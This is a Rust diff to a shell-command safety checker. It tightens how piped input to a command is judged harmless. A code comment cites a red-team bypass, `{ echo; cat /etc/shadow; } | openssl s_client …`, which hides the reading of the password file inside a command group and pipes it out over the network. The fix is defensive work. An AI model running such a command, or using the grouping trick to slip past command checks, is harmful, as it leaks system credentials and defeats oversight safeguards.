@@ -626,9 +626,14 @@ fn check_sent_input(cmd: &SimpleCommand, all: &[SimpleCommand], analysis: &mut A
         }
         return;
     }
+    // Every earlier stage must be one simple command that sends nothing but an empty line. A stage
+    // that is a group, a subshell, a loop or an `if` holds no simple command at its position: it
+    // is not proved harmless (red team 6: `{ echo; cat /etc/shadow; } | openssl s_client …`).
     let fed_literally = cmd.pipeline.is_some_and(|(id, pos)| {
         pos > 0
-            && all.iter().filter(|c| c.pipeline.is_some_and(|(i, p)| i == id && p < pos)).all(|c| {
+            && (0..pos).all(|p| {
+                let mut stage = all.iter().filter(|c| c.pipeline == Some((id, p)));
+                let (Some(c), None) = (stage.next(), stage.next()) else { return false };
                 let Some(first) = c.words.first() else { return false };
                 // Even literal text is a request to whatever listens: only an empty line.
                 (matches!(first.text.as_str(), "true" | ":") || (first.text == "echo" && c.words.len() == 1))
